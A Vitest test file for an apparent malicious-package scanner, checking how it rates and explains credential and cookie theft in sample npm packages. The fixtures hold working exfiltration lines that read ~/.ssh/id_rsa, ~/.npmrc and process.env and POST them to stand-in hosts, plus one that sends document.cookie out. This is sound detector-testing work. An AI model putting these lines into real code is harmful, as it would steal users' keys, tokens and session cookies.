import { describe, expect, it } from 'vitest'
import { findingsIn, packageOf } from '../../../test/samples.ts'
import type { Finding, Trigger } from '../../core/types.ts'
import { stealsBrowserData } from '../steals-browser-data.ts'
import { stealsCredentials } from '../steals-credentials.ts'

const sends = (url: string): string => `const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa'); fetch('${url}', { method: 'POST', body: key })`
const speaks = (url: string): string => `require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa'); fetch('${url}')`

const found = (kind: Trigger['kind'], code: string): Finding | undefined => findingsIn(packageOf({
  says: '', ecosystem: 'npm', files: { 'package.json': '{"homepage":"https://tool.example"}', 'i.js': code }, triggers: [{ kind, name: 'i', file: 'i.js' }],
}), stealsCredentials)[0]

describe('theft', () => {
  it.each([
    ['install-hook', 'critical', 'critical', 'high'], ['import', 'critical', 'critical', 'low'], ['command', 'low', 'medium', 'low'], ['file', 'low', 'medium', 'low'],
  ] as const)('weighs what %s leads to by where it goes', (kind, stranger, drop, beside) => {
    expect(found(kind, sends('https://a.stranger.example'))?.severity).toBe(stranger)
    expect(found(kind, sends('https://webhook.site/x'))?.severity).toBe(drop)
    expect(found(kind, speaks('https://a.stranger.example'))?.severity).toBe(beside)
    expect(found(kind, sends('https://api.tool.example'))?.severity).toBe('low')
    expect([undefined, 'low']).toContain(found(kind, sends('http://127.0.0.1:9'))?.severity)
  })

  it('shows the way from source to sink', () => {
    expect(found('install-hook', sends('https://a.stranger.example'))?.evidence.map(({ role, says }) => [role, says])).toEqual([
      ['source', 'fs.readFileSync reads <home>/.ssh/id_rsa'], ['sink', 'fetch sends it to https://a.stranger.example'],
    ])
  })

  it('shows what it is about alone of what is sent together', () => {
    const all = `const os = require('os'), fs = require('fs'), d = { h: os.hostname(), t: fs.readFileSync(os.homedir() + '/.npmrc'), e: process.env }; fetch('https://a.stranger.example', { method: 'POST', body: JSON.stringify(d) })`
    expect(found('install-hook', all)?.evidence.map(({ says }) => says)).toEqual(['fs.readFileSync reads <home>/.npmrc', 'fetch sends it to https://a.stranger.example'])
  })

  it('leaves a page its own cookies', () => {
    const page = packageOf({ says: '', ecosystem: 'npm', files: { 'package.json': '{}', 'i.js': `fetch('https://a.stranger.example?' + document.cookie)` }, triggers: [{ kind: 'import', name: 'i', file: 'i.js' }] })
    expect(findingsIn(page, stealsBrowserData)).toEqual([])
  })
})
